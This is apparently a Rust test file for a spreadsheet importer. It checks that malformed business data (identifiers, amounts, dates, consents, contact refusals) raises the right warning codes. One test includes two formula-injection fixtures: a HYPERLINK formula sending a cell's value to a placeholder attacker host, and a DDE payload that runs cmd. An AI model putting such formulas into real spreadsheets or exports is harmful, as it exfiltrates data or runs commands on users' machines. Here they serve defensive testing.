//! The workbook of Atelier Mercier: what a person is told of the cells that are not what they should
//! be, and what is kept of their text.

use serde_json::Value;

use crate::mercier::{Batch, expected};

/// The code told of a cell with this remark in `expected.json`; none where the reading goes without saying.
fn code(status: &str, sheet: &str, column: &str) -> Option<&'static str> {
    Some(match (status, sheet, column) {
        ("leading zero lost (numeric cell)", ..) => "lost-zero",
        ("invalid check digit: keep as typed, warn", ..) => "siren-check-digit",
        ("SIRET given where a SIREN is expected: keep its first nine digits", ..) => "siret-for-siren",
        ("SIRET destroyed by scientific notation: unusable, warn, never invent digits", ..) => {
            "scientific-notation"
        }
        ("invalid key", ..) => "vat-check-digit",
        ("not a number" | "not an address", ..) => "not-given",
        ("two numbers in one cell", ..) => "several-phones",
        ("extension 12", ..) => "phone-extension",
        ("too short: unusable, warn", ..) => "phone-too-short",
        ("two addresses in one cell", ..) => "several-emails",
        ("invalid (comma in the domain)", ..) => "email-comma",
        ("invalid", "Clients", _) => "email-domain-missing",
        ("invalid", "Contacts", _) => "email-many-ats",
        ("impossible date", "Clients", _) => "date-impossible",
        ("impossible date", ..) => "date-unreadable",
        ("month only: no day may be invented silently", ..) => "date-month-only",
        ("typing error: year 2203", ..) => "date-in-future",
        ("unit k€: either 1250000 cents with a warning, or refused; never 1250", ..) => "amount-unit",
        ("US notation: ambiguous, warn; never 123 cents nor 123456 without a warning", ..) => {
            "amount-notation"
        }
        ("not an amount", ..) => "amount-text",
        ("another currency", ..) => "other-currency",
        ("spreadsheet error value", ..) => "spreadsheet-error",
        ("does not equal quantity × unit price", ..) => "total-differs",
        ("cancelled invoice", ..) => "cancelled",
        ("must stay text and be neutralised in every CSV/XLSX export", ..) => "formula-like",
        ("surname and first name in one cell", ..) => "name-split",
        ("unknown client number", "Contacts", _) => "unknown-client-number",
        ("unknown client number", ..) => "client-unknown",
        ("a child: no marketing without the parents", ..) => "minor",
        ("opposition" | "opposition dated 2022-05-04", ..) => "refusal",
        ("opposition to every contact", ..) => "do-not-contact",
        ("deceased: no mailing", ..) => "deceased",
        ("contradicted by its duplicate", ..) => "refusal-wins",
        // read for sure, or told elsewhere in the report: of notes, consents and duplicates
        (
            "not sensitive"
            | "unknown: must not count as consent"
            | "display name and angle brackets"
            | "empty date"
            | "Excel serial number in a cell that lost its date format"
            | "negative"
            | "accounting negative"
            | "consent with its evidence: keep the text"
            | "emoji becomes ? in the windows-1252 file"
            | "contradicts its duplicate: the refusal wins"
            | "credit note",
            ..,
        ) => return None,
        (status, ..) if status.starts_with("sensitive:") => return None,
        (other, ..) => panic!("nobody said what is told of {other}"),
    })
}

#[test]
fn whoever_imports_is_told_of_every_cell_that_is_not_what_it_should_be() {
    cells_are_told_as_expected(Batch::workbook());
}

/// Compares what is told of each cell that has a remark.
pub fn cells_are_told_as_expected(batch: &Batch) {
    let (mut asked, mut missing) = (0, Vec::new());
    for (name, sheet) in expected()["sheets"].as_object().unwrap() {
        let told = batch.told(name);
        for row in sheet["rows"].as_array().unwrap() {
            let number = u32::try_from(row["xlsx_row"].as_u64().unwrap()).unwrap();
            for (column, cell) in row.as_object().unwrap() {
                let Some(code) = cell["status"].as_str().and_then(|status| code(status, name, column)) else {
                    continue;
                };
                asked += 1;
                if !told.at(number, column).iter().any(|said| said == code) {
                    missing.push(format!("{name} {number} {column}: {code} is not told"));
                }
            }
        }
    }
    assert!(asked > 80, "only {asked} cells have a remark");
    assert_eq!(missing, Vec::<String>::new());
}

#[test]
fn the_text_of_an_extension_stays_beside_the_number() {
    let rows = Batch::workbook().rows("Clients");
    for row in [17, 59] {
        let phones = &rows[&row].company.as_ref().unwrap().reach.phones;
        let [phone] = phones.as_slice() else { panic!("one number in row {row}") };
        assert_eq!(phone.value.get().unwrap().e164, "+33465711827");
        assert!(phone.value.raw.ends_with("12"), "the extension of row {row} is kept as typed");
    }
}

#[test]
fn what_proves_a_consent_is_kept_word_for_word() {
    let rows = Batch::workbook().rows("Clients");
    let consents = &rows[&37].company.as_ref().unwrap().standing.consents;
    let [consent] = consents.as_slice() else { panic!("one consent") };
    assert_eq!(
        (consent.answer, consent.evidence.as_str()),
        (intake::Answer::Yes, "Oui (mail du 03/02/2023)")
    );
}

#[test]
fn one_total_with_tax_of_a_row_that_counts_cannot_be_read() {
    let batch = Batch::workbook();
    let wanted = &expected()["sheets"]["Ventes"]["sums_of_accepted_rows_without_duplicates"];
    let rows = batch.rows("Ventes");
    let unread: Vec<u32> = rows
        .iter()
        .filter(|(number, row)| row.is_accepted() && ![407, 408].contains(*number))
        .filter(|(_, row)| {
            let gross = &row.sale.as_ref().unwrap().gross;
            !gross.raw.is_empty() && gross.get().is_none()
        })
        .map(|(number, _)| *number)
        .collect();
    assert_eq!(unread, [148]);
    assert_eq!(Some(unread.len() as u64), wanted["unreadable_ttc"].as_u64());
}

#[test]
fn a_harmless_note_is_kept_word_for_word() {
    let batch = Batch::workbook();
    for name in ["Clients", "Contacts"] {
        let (rows, sheets) = (batch.rows(name), expected());
        let harmless = sheets["sheets"][name]["looks_sensitive_but_is_not"].as_array().unwrap().clone();
        assert!(harmless.len() >= 4, "{name}");
        for wanted in &harmless {
            let row = u32::try_from(wanted["xlsx_row"].as_u64().unwrap()).unwrap();
            assert_eq!(Value::from(note(rows[&row])), wanted["text"], "{name} {row}");
        }
    }
    let rows = batch.rows("Clients");
    let formula = r#"=HYPERLINK("http://attaquant.example.net/?x="&A5,"cliquez")"#;
    assert_eq!((note(rows[&40]), note(rows[&41])), (formula, "@SUM(1+1)*cmd|' /C calc'!A0"));
}

/// The only note of a row.
fn note(row: &intake::ReadRow) -> &str {
    let standing = match (&row.company, &row.person) {
        (Some(company), _) => &company.standing,
        (None, person) => &person.as_ref().unwrap().standing,
    };
    let [note] = standing.notes.as_slice() else { panic!("one note in row {}", row.row) };
    assert_eq!(note.state, intake::NoteState::Kept);
    &note.text
}
